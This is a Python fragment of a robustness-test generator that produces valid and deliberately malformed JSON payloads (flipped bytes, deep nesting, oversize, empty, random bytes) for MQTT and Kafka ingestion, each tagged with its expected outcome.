    if fmt in JSON_FORMATS and isinstance(doc, dict | list):
        text = json.dumps(_set_somewhere(rng, doc, marker))
        nested = "[" * depth + "1" + "]" * depth
        data = text.replace(json.dumps(marker), nested).encode()
        # orjson stops at 1024 levels.
        return data, ("dead" if depth > 1000 else "either"), ("json" if depth > 1000 else None)
    return splice(rng, raw, b"[" * depth), "either", None


def oversize(rng: random.Random, fmt: str, doc: Any, raw: bytes) -> Outcome:
    size = rng.randrange(OVERSIZE_BYTES, 2 * OVERSIZE_BYTES)
    if isinstance(doc, dict):
        big = dict(doc, padding="x" * size)
        return orjson.dumps(big), "dead", "too large"
    return raw + b" " + b"A" * size, "dead", "too large"


def empty(rng: random.Random, fmt: str, doc: Any, raw: bytes) -> Outcome:
    return b"", "dead", "empty"


def random_bytes(rng: random.Random, fmt: str, doc: Any, raw: bytes) -> Outcome:
    return rng.randbytes(rng.randrange(1, 400)), "either", None


def splice(rng: random.Random, raw: bytes, piece: bytes) -> bytes:
    i = rng.randrange(len(raw) + 1)
    return raw[:i] + piece + raw[i:]


MUTATIONS: dict[str, tuple[Mutation, float]] = {
    # name: (mutation, weight)
    "flip_bytes": (flip_bytes, 6),
    "truncate": (truncate, 4),
    "wrong_type": (wrong_type, 6),
    "drop_key": (drop_key, 3),
    "huge_number": (huge_number, 2),
    "nan_token": (nan_token, 2),
    "nul_byte": (nul_byte, 2),
    "lone_surrogate": (lone_surrogate, 2),
    "deep_nesting": (deep_nesting, 1),
    "random_bytes": (random_bytes, 1),
    "empty": (empty, 0.05),
    "oversize": (oversize, 0.05),
}
VALID_SHARE = 0.4


def generate(count: int, seed: int, now: datetime | None = None) -> Iterator[Payload]:
    """`count` payloads spread evenly over the routed formats; 40% valid samples, the
    rest mutations of fresh valid samples. Payloads repeated on one MQTT topic (an
    `empty` of two samples) are skipped: the broker has no position to tell them apart,
    so a repeat is the same dead letter, by design."""
    rng = random.Random(seed)
    samples = Samples(rng, now or datetime.now(UTC))
    formats = MQTT_FORMATS + KAFKA_FORMATS
    names, weights = list(MUTATIONS), [w for _, w in MUTATIONS.values()]
    seen: set[tuple[str, bytes]] = set()
    seq = 0
    while seq < count:
        fmt = formats[seq % len(formats)]
        doc = getattr(samples, fmt.removeprefix("ioc_"))(seq)
        raw = render(fmt, doc)
        if rng.random() < VALID_SHARE:
            item = Payload(seq, fmt, raw, "row", "valid")
        else:
            name = rng.choices(names, weights)[0]
            data, expect, word = MUTATIONS[name][0](rng, fmt, doc, raw)
            item = Payload(seq, fmt, data, expect, name, word)
        if TRANSPORT[fmt] == "mqtt":
            # Telemetry topics are per payload, Frigate's are shared.
            key = (fmt if fmt in SHARED_TOPICS else str(seq), item.payload)
            if key in seen:
                continue
            seen.add(key)
        yield item
        seq += 1
